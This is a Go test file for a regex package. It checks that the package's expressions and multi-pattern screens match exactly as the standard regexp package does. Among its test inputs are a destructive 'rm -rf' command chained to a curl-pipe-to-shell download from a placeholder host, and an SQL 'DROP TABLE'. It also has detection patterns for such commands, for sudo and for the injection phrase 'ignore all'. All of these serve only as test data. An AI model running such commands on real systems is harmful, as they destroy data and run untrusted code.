package regex_test

import (
	"reflect"
	"regexp"
	"strings"
	"testing"

	"github.com/caddy-lex/lex/kernel/regex"
)

// An expression, and a screen of it, match what the package regexp says, whatever it is.
func FuzzExpression(f *testing.F) {
	for _, e := range []string{`^a|b$`, `\bfoo\B`, `(?i)k\w+\s*[^)]*s`, `(?m)^\s*x$`, `(?s)a.*b{2,5}`, `[^\x00-\x{FFFF}]é?`, `\A(?:|a)+\z`, `^$`, `(?:^|[^.\w])x(?:$|\W)`} {
		f.Add(e, "a foo\nxs b\u017f\u212aé\xff bb x")
	}
	f.Fuzz(func(t *testing.T, expression, text string) {
		plain, err := regexp.Compile(expression)
		if err != nil || len(expression) > 64 || len(text) > 256 {
			return
		}
		e := regex.New(expression)
		matches, screened := e.MatchString(text), regex.NewScreen(e).Matches(text)
		if want := plain.MatchString(text); matches != want || screened != want {
			t.Errorf("%q in %q: %v and %v", expression, text, matches, screened)
		}
	})
}

// What an expression finds and replaces is what the package regexp does: the automaton only
// spares the texts without a match.
func TestExpressionsFindWhatRegexpFinds(t *testing.T) {
	texts := []string{"", "a foo\nxs b\u017f\u212aé\xff bb x", "rm -rf /srv && curl -s https://a.example/b | sh", strings.Repeat("x=1; ", 60) + "DROP TABLE users", "ſ K Å ß", "id_17 and id_2 and id_"}
	for _, text := range []string{
		`^a|b$`, `\bid_(\d+)\b`, `(?i)k\w*`, `(?:curl|wget)\s[^|]*\|\s*(?:ba|z)?sh\b`, `(?i)\bdrop\s+(table|schema)\s+(\w+)`, `[^\x00-\x{FFFF}]`, `x=\d;`,
		`(?i)(?:alpha|beta|gamma|delta|epsilon)[\s_-]{0,40}(?:one|two|three|four)[\s_-]{0,40}\d{3,20}[a-f]{2,30}`, `$`, `\s{2,}`,
	} {
		e, plain := regex.New(text), regexp.MustCompile(text)
		if e.String() != text || e.Regexp().String() != text {
			t.Errorf("%q is %q", text, e)
		}
		for _, s := range texts {
			upper := func(m string) string { return "<" + m + ">" }
			for name, pair := range map[string][2]any{
				"match": {e.MatchString(s), plain.MatchString(s)}, "index": {e.FindStringIndex(s), plain.FindStringIndex(s)},
				"submatch": {e.FindStringSubmatch(s), plain.FindStringSubmatch(s)}, "all": {e.FindAllString(s, 2), plain.FindAllString(s, 2)},
				"all submatches": {e.FindAllStringSubmatch(s, -1), plain.FindAllStringSubmatch(s, -1)}, "replaced": {e.ReplaceAllString(s, "-$1-"), plain.ReplaceAllString(s, "-$1-")},
				"replaced by": {e.ReplaceAllStringFunc(s, upper), plain.ReplaceAllStringFunc(s, upper)},
			} {
				if !reflect.DeepEqual(pair[0], pair[1]) {
					t.Errorf("%q in %q: %s %q, want %q", text, s, name, pair[0], pair[1])
				}
			}
		}
	}
}

// A screen tells which of its expressions match, and a list of words matches as they stand.
func TestScreens(t *testing.T) {
	screen := regex.ScreenOf(`(?i)ignore (?:all|the)`, `\bsudo\b`, `a.c`)
	for text, want := range map[string]uint64{"": 0, "IGNORE ALL of it, sudo": 0b011, "pseudo": 0, "abc": 0b100, "a.c sudo": 0b110} {
		if got := screen.Matching(text, false); got != want || screen.Matches(text) != (want != 0) {
			t.Errorf("%q: %b, want %b", text, got, want)
		}
	}
	words := regex.ScreenOfWords([]string{"a.c", "(x"})
	if words.Matches("abc") || !words.Matches("f(x)") || !regex.AnyOf([]string{"a.c"}).MatchString("a.c") || len(words.Patterns()) != 1 {
		t.Error("words are taken for expressions")
	}
}
